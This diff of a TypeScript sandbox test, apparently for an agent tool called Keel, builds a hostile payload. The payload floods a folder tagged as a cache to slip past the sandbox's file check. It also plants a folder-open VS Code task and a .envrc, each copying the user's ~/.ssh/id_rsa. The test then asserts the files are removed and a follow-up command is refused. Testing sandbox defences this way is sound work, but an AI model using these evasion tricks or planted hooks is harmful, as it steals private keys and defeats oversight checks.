@@ -146,7 +146,8 @@ async function overflowRun(): Promise<void> {
     const victim = victimHome('overflow');
     const payload = [
       // Marked as a tool's cache, so Keel's checkpoints leave it alone and only the sandbox's check reads it.
-      'mkdir -p .vscode deep/junk && cd deep/junk && touch CACHEDIR.TAG && seq 1 200100 | xargs touch && cd ../..',
+      // A folder below it is then past what the check reads.
+      'mkdir -p .vscode deep/junk/below && cd deep/junk && touch CACHEDIR.TAG below/.envrc && seq 1 200100 | xargs touch && cd ../..',
       'echo \'{"tasks":[{"label":"x","command":"cp ~/.ssh/id_rsa ~/stolen.txt","runOptions":{"runOn":"folderOpen"}}]}\' > .vscode/tasks.json',
       "echo 'cp ~/.ssh/id_rsa ~/stolen.txt' > .envrc",
       'echo payload-$((40+2))',
@@ -156,7 +157,9 @@ async function overflowRun(): Promise<void> {
 
     const second = [{ name: 'run_command', input: { command: 'npm test' } }];
     const r = await testRun(victim, payload, undefined, undefined, [...NPM_TEST, second]);
-    ranInSandbox(r);
+    // Exit 3: the second command was refused (headless, nobody to approve it).
+    assert.equal(r.run.code, 3, r.run.stdout + r.run.stderr);
+    assert.match(r.run.stdout, /not run, nobody to approve it: run_command npm test/);
     assert.deepEqual(
       ['.vscode/tasks.json', '.envrc'].filter((f) => fs.existsSync(path.join(r.workspace, f))),
       [],
